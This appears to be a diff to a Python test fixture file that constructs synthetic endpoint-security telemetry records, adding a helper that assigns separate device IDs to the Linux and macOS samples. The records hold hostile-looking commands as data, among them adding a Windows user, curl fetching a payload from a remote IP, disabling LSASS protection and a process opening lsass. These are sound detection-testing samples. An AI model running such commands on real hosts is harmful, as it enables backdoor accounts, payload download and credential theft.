@@ -65,19 +65,26 @@ def started(path: str, command_line: str, parent: Row, **account: str) -> Raw:
     })  # fmt: skip
 
 
+def on(device: str, raw: Raw) -> Raw:
+    """The same record of another device: what one is known to run would be taken for the other's."""
+    return raw.having(DeviceId=device)
+
+
+LINUX, MAC = "1" * 40, "2" * 40
+
 # fmt: off
 EXPLORER = doer(r"C:\Windows\explorer.exe", "explorer.exe")
 KERNEL = {**doer("System", "", "system", "nt authority", "S-1-5-18"), "InitiatingProcessFolderPath": None, "InitiatingProcessCommandLine": None,
           "InitiatingProcessId": 4, "InitiatingProcessParentFileName": None}
 PROCESS = started(r"C:\Windows\System32\net.exe", r'"C:\Windows\System32\net.exe" user kim "pass word" /add', EXPLORER)
-LINUX_PROCESS = started("/tmp/.x/curl", "curl -o 'a b' http://198.51.100.7/x", doer("/usr/bin/bash", "bash -c true", "root", "web-1", ""), AccountSid="",
-                        AccountName="root")
-MACOS_PROCESS = started("/usr/bin/curl", "/usr/bin/curl -s http://198.51.100.7/x",
-                        doer("/Applications/Some App.app/Contents/MacOS/Some App", "/Applications/Some App.app/Contents/MacOS/Some App --x y", "kim", "mac-1", ""))
+LINUX_PROCESS = on(LINUX, started("/tmp/.x/curl", "curl -o 'a b' http://198.51.100.7/x", doer("/usr/bin/bash", "bash -c true", "root", "web-1", ""), AccountSid="",
+                        AccountName="root"))
+MACOS_PROCESS = on(MAC, started("/usr/bin/curl", "/usr/bin/curl -s http://198.51.100.7/x",
+                        doer("/Applications/Some App.app/Contents/MacOS/Some App", "/Applications/Some App.app/Contents/MacOS/Some App --x y", "kim", "mac-1", "")))
 FILE = Raw("DeviceFileEvents", {"ActionType": "FileCreated", "FolderPath": r"C:\Users\kim\Downloads\invoice.pdf.exe", "FileName": "invoice.pdf.exe",
                                 "FileSize": 165, **EXPLORER})
-LINUX_FILE = Raw("DeviceFileEvents", {"ActionType": "FileDeleted", "FolderPath": "/etc/ld.so.preload", "FileName": "ld.so.preload",
-                                      **doer("/usr/bin/rm", "rm /etc/ld.so.preload", "root", "web-1", "")})
+LINUX_FILE = on(LINUX, Raw("DeviceFileEvents", {"ActionType": "FileDeleted", "FolderPath": "/etc/ld.so.preload", "FileName": "ld.so.preload",
+                                      **doer("/usr/bin/rm", "rm /etc/ld.so.preload", "root", "web-1", "")}))
 REGISTRY = Raw("DeviceRegistryEvents", {"ActionType": "RegistryValueSet", "RegistryKey": r"HKEY_LOCAL_MACHINE\SYSTEM\ControlSet001\Control\Lsa",
                                         "RegistryValueName": "RunAsPPL", "RegistryValueType": "Dword", "RegistryValueData": "0", **EXPLORER})
 NETWORK = Raw("DeviceNetworkEvents", {"ActionType": "ConnectionSuccess", "LocalIP": "10.0.0.5", "LocalPort": 50111, "RemoteIP": "198.51.100.7", "RemotePort": 445,
@@ -88,8 +95,8 @@ LSASS = Raw("DeviceEvents", {"ActionType": "OpenProcessApiCall", "FileName": "ls
                              **doer(r"C:\Users\kim\dump.exe", "dump.exe")})
 LOGON = Raw("DeviceLogonEvents", {"ActionType": "LogonSuccess", "LogonType": "RemoteInteractive", "AccountName": "kim", "AccountDomain": "contoso",
                                   "AccountSid": "S-1-5-21-1-2-3-1001", "RemoteIP": "198.51.100.7", "Protocol": "Negotiate"})
-LINUX_LOGON = Raw("DeviceLogonEvents", {"ActionType": "LogonFailed", "AccountName": "root", "AdditionalFields": '{"PosixUserId":0}',
-                                        **doer("/usr/sbin/sshd", "sshd: [accepted]", "root", "web-1", "")})
+LINUX_LOGON = on(LINUX, Raw("DeviceLogonEvents", {"ActionType": "LogonFailed", "AccountName": "root", "AdditionalFields": '{"PosixUserId":0}',
+                                        **doer("/usr/sbin/sshd", "sshd: [accepted]", "root", "web-1", "")}))
 
 SYSTEM = {"AccountName": "system", "AccountDomain": "nt authority", "AccountSid": "S-1-5-18"}
 TOLD = PROCESS.having(ProcessVersionInfoOriginalFileName="net.exe", ProcessIntegrityLevel="System")
